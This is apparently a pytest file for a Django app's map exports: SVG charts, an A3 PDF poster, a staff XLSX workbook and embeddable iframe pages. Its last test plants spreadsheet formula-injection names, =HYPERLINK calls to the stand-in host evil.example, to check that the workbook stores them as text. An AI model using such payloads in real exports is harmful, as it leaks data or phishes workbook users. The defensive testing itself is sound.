"""Exports of the map: landscape and chart SVG, the A3 poster, the staff XLSX, the embeddable category."""

import io
import re
import zlib

import pytest
from django.urls import reverse
from lxml import etree
from openpyxl import load_workbook

from alliance.ecosystem.models import Placement, TaxonomyNode
from alliance.ecosystem.tests.factories import PlacementFactory, PlayerFactory, small_taxonomy

pytestmark = pytest.mark.django_db


def _pdf_objects(content: bytes) -> bytes:
    """The PDF with its compressed streams inflated (WeasyPrint packs page objects into object streams)."""
    parts = [content]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL):
        try:
            parts.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(parts)


@pytest.fixture
def tree():
    tree = small_taxonomy(2026)
    for name, node, revenue in (("주식회사 젠", tree["xr"], 25_000), ("렌더랩 <b>", tree["software"], 500)):
        PlacementFactory(
            player=PlayerFactory(name=name, revenue=revenue),
            taxonomy=tree["taxonomy"],
            primary=node,
            revenue=revenue,
            status=Placement.Status.CONFIRMED,
            patents=4,
            technologies=[tree["twin"]],
        )
    return tree


def test_landscape_svg_is_wellformed_with_names_escaped(client, tree):
    response = client.get(reverse("ecosystem:landscape_svg", args=[2026]))
    root = etree.fromstring(response.content)
    texts = [element.text for element in root.iter("{http://www.w3.org/2000/svg}text")]

    assert response["Content-Type"] == "image/svg+xml; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="ecosystem-2026.svg"'
    assert "렌더랩 <b>" in texts
    assert "하드웨어 (1)" in texts


def test_chart_svg_is_wellformed_with_a_bubble_per_player(client, tree):
    response = client.get(reverse("ecosystem:chart_svg", args=[2026]), {"category": tree["hardware"].pk})
    root = etree.fromstring(response.content)

    circles = root.findall(".//{http://www.w3.org/2000/svg}circle")
    assert [circle.findtext("{http://www.w3.org/2000/svg}title").split(":")[0] for circle in circles] == ["주식회사 젠"]


def test_poster_is_an_a3_pdf_with_the_korean_font(client, tree):
    response = client.get(reverse("ecosystem:poster", args=[2026]))
    content = b"".join(response.streaming_content) if response.streaming else response.content

    assert response["Content-Type"] == "application/pdf"
    assert content.startswith(b"%PDF-")
    objects = _pdf_objects(content)
    # A3 landscape is 420 × 297 mm = 1190.55 × 841.89 pt.
    assert re.search(rb"/MediaBox \[0 0 1190\.55\d* 841\.88\d*\]", objects)
    assert b"NotoSansCJK" in objects


def test_placements_xlsx_lists_every_placement_for_staff(client, staff_user, tree):
    PlacementFactory(player=PlayerFactory(name="초안기업"), taxonomy=tree["taxonomy"], primary=tree["education"])
    client.force_login(staff_user)

    response = client.get(reverse("ecosystem:placements_xlsx", args=[2026]))
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))

    assert len(rows) == 4
    assert [row[0] for row in rows[1:]] == ["렌더랩 <b>", "주식회사 젠", "초안기업"]
    zen = rows[2]
    assert zen[2:6] == ("핵심산업 영역", "기반 부문", "하드웨어", "XR 디바이스")
    assert (zen[7], zen[10], zen[12]) == ("디지털트윈", 25_000, 4)


def test_embed_page_may_be_framed_and_other_pages_not(client, tree):
    embed = client.get(reverse("ecosystem:embed", args=[2026, tree["base"].pk]))
    hardware = client.get(reverse("ecosystem:embed", args=[2026, tree["hardware"].pk]))
    landscape = client.get(reverse("ecosystem:landscape", args=[2026]))

    assert embed.status_code == 404  # a layer is not a category box
    assert hardware.status_code == 200
    assert "X-Frame-Options" not in hardware
    assert "frame-ancestors *" in hardware["Content-Security-Policy"]
    assert landscape["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in landscape["Content-Security-Policy"]
    assert ">주식회사 젠</a>" in hardware.content.decode()


def test_embed_code_offers_an_iframe_of_the_embed_page(client, tree, settings):
    settings.SITE_URL = "https://alliance.example.kr"

    response = client.get(reverse("ecosystem:embed_code", args=[2026, tree["hardware"].pk]))

    expected_src = f"https://alliance.example.kr/ecosystem/2026/categories/{tree['hardware'].pk}/embed/"
    assert response.context["code"] == (
        f'<iframe src="{expected_src}" width="480" height="360" loading="lazy" title="하드웨어"></iframe>'
    )


def test_embed_code_escapes_the_category_name(client, tree):
    TaxonomyNode.objects.filter(pk=tree["software"].pk).update(name='소프트 "웨어" <b>&')

    response = client.get(reverse("ecosystem:embed_code", args=[2026, tree["software"].pk]))

    code = response.context["code"]
    assert code.endswith('title="소프트 &quot;웨어&quot; &lt;b&gt;&amp;"></iframe>')
    # The textarea shows the snippet as text: escaped once more, so a browser displays the escaped snippet.
    shown = "title=&quot;소프트 &amp;quot;웨어&amp;quot; &amp;lt;b&amp;gt;&amp;amp;&quot;&gt;&lt;/iframe&gt;</textarea>"
    assert shown in response.content.decode()


@pytest.mark.django_db
def test_placements_xlsx_writes_formula_like_names_as_text(client, staff_user, tree):
    """A player named in an imported landscape.yml, or a node renamed by a subcommittee member, starting
    with `=` must not become a live formula in the staff workbook."""
    attack = '=HYPERLINK("http://evil.example/?leak","Click me")'
    tree["xr"].name = '=HYPERLINK("http://evil.example/?sub","node")'
    tree["xr"].save(update_fields=["name"])
    PlacementFactory(player=PlayerFactory(name=attack), primary=tree["xr"], status=Placement.Status.CONFIRMED)
    client.force_login(staff_user)

    content = client.get(reverse("ecosystem:placements_xlsx", args=[2026])).content

    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert attack in [cell.value for cell in cells]
